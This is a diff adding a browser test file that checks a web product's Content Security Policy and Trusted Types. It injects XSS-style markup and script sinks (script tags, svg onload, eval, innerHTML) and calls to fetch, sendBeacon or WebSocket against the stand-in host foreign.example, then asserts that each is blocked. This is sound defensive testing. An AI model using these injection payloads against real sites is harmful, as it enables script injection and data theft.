@@ -1,0 +1,108 @@
+import { afterAll, beforeAll, describe, expect, test } from 'vitest';
+import { browserForThisFile, mainHeading, patience } from './harness/browser.ts';
+import { startPayment } from './harness/checkout.ts';
+import { openSession, registerPerson, signedIn, type Tokens } from './harness/people.ts';
+import { type Product, startProduct } from './harness/product.ts';
+
+const { openPage, takeBreaches } = browserForThisFile();
+const foreign = 'https://foreign.example';
+const steal = 'document.title = `stolen`';
+let product: Product;
+let tokens: Tokens;
+
+beforeAll(async () => {
+  product = await startProduct();
+  tokens = await openSession(product, await registerPerson(product));
+});
+afterAll(() => product?.stop());
+
+/** What would stand in a page that forgot to escape something, and what the browser says of each. */
+const injected = {
+  [`<script>${steal}</script>`]: 'script-src-elem: inline',
+  [`<script src="${foreign}/a.js"></script>`]: `script-src-elem: ${foreign}/a.js`,
+  [`<svg onload="${steal}"></svg>`]: 'script-src-attr: inline',
+  '<style>body { display: none }</style>': 'style-src-elem: inline',
+  '<p style="position: fixed"></p>': 'style-src-attr: inline',
+  [`<link rel="stylesheet" href="${foreign}/a.css">`]: `style-src-elem: ${foreign}/a.css`,
+  [`<img src="${foreign}/a.png" alt="">`]: `img-src: ${foreign}/a.png`,
+  [`<video src="${foreign}/a.mp4"></video>`]: `media-src: ${foreign}/a.mp4`,
+  [`<iframe src="${foreign}"></iframe>`]: `frame-src: ${foreign}`,
+  [`<object data="${foreign}"></object>`]: `object-src: ${foreign}`,
+  [`<base href="${foreign}/">`]: `base-uri: ${foreign}/`,
+};
+
+describe.each([
+  ['a page of the cabinet', async () => `${product.url}/auth`],
+  ['a page of the sandbox', async () => (await startPayment(product, tokens)).confirmationUrl],
+  ['the mailbox', async () => `${product.url}/dev/mail`],
+])('%s', (_what, address) => {
+  test('runs and loads nothing of the markup that got into it', async () => {
+    const url = await address();
+    const page = await openPage();
+    await page.route(url, async (route) => {
+      const response = await route.fetch();
+      const body = (await response.text()).replace('<body>', `<body>${Object.keys(injected).join('\n')}`);
+      await route.fulfill({ response, body });
+    });
+    await page.goto(url);
+    const breaches = await untilBreached(Object.keys(injected).length);
+    expect(breaches.sort()).toEqual(Object.values(injected).sort());
+    await page.getByRole('heading', { level: 1 }).waitFor();
+    expect(await page.title()).not.toBe('stolen');
+  });
+});
+
+const asMarkup = 'require-trusted-types-for: trusted-types-sink';
+const deeds: [deed: string, breach: string][] = [
+  [`eval('${steal}')`, asMarkup],
+  [`new Function('${steal}')()`, asMarkup],
+  [`setTimeout('${steal}')`, asMarkup],
+  ['document.body.innerHTML = "<b>stolen</b>"', asMarkup],
+  ['document.body.innerHTML = "stolen"', asMarkup],
+  ['document.body.insertAdjacentHTML("afterend", "<b>stolen</b>")', asMarkup],
+  ['document.write("<b>stolen</b>")', asMarkup],
+  [`document.body.setAttribute('onclick', '${steal}')`, asMarkup],
+  [`document.createElement('script').text = '${steal}'`, asMarkup],
+  [`document.createElement('script').src = '${foreign}/a.js'`, asMarkup],
+  ['new Worker("/assets/a.js")', asMarkup],
+  ['trustedTypes.createPolicy("default", { createHTML: String })', 'trusted-types: trusted-types-policy'],
+  [`import('${foreign}/a.js')`, `script-src-elem: ${foreign}/a.js`],
+  [`import('data:text/javascript,${steal}')`, 'script-src-elem: data'],
+  [`Object.assign(document.createElement('a'), { href: 'javascript:${steal}' }).click()`, 'script-src-elem: inline'],
+  [
+    'document.head.append(Object.assign(document.createElement("style"), { textContent: "a" }))',
+    'style-src-elem: inline',
+  ],
+  [`fetch('${foreign}/a')`, `connect-src: ${foreign}/a`],
+  [`navigator.sendBeacon('${foreign}/a')`, `connect-src: ${foreign}/a`],
+  ['new WebSocket("wss://foreign.example")', 'connect-src: wss://foreign.example/'],
+  [`new Image().src = '${foreign}/a.png'`, `img-src: ${foreign}/a.png`],
+  [
+    `document.body.append(Object.assign(document.createElement('iframe'), { src: '${foreign}' }))`,
+    `frame-src: ${foreign}`,
+  ],
+  // The last, since Chromium leaves the page for an empty one.
+  [
+    `document.body.appendChild(Object.assign(document.createElement('form'), { action: '${foreign}' })).submit()`,
+    `form-action: ${foreign}/?`,
+  ],
+];
+
+test('code that got into a page makes none of its strings code, and sends nothing out', async () => {
+  const page = await openPage(signedIn(product, tokens));
+  await page.goto(product.url);
+  await mainHeading(page, /Анна Ковалёва/).waitFor();
+  for (const [deed, breach] of deeds) {
+    // What the debugger runs is free of the policy; what a timer runs is the page's own.
+    await page.evaluate(`void setTimeout(() => (async () => { ${deed} })().catch(() => {}))`);
+    expect(await untilBreached(1), deed).toEqual([breach]);
+    expect(await page.title(), deed).not.toBe('stolen');
+  }
+  expect(page.url()).not.toContain(foreign);
+});
+
+async function untilBreached(times: number): Promise<string[]> {
+  const breaches: string[] = [];
+  await expect.poll(() => breaches.push(...takeBreaches()), patience).toBeGreaterThanOrEqual(times);
+  return breaches;
+}
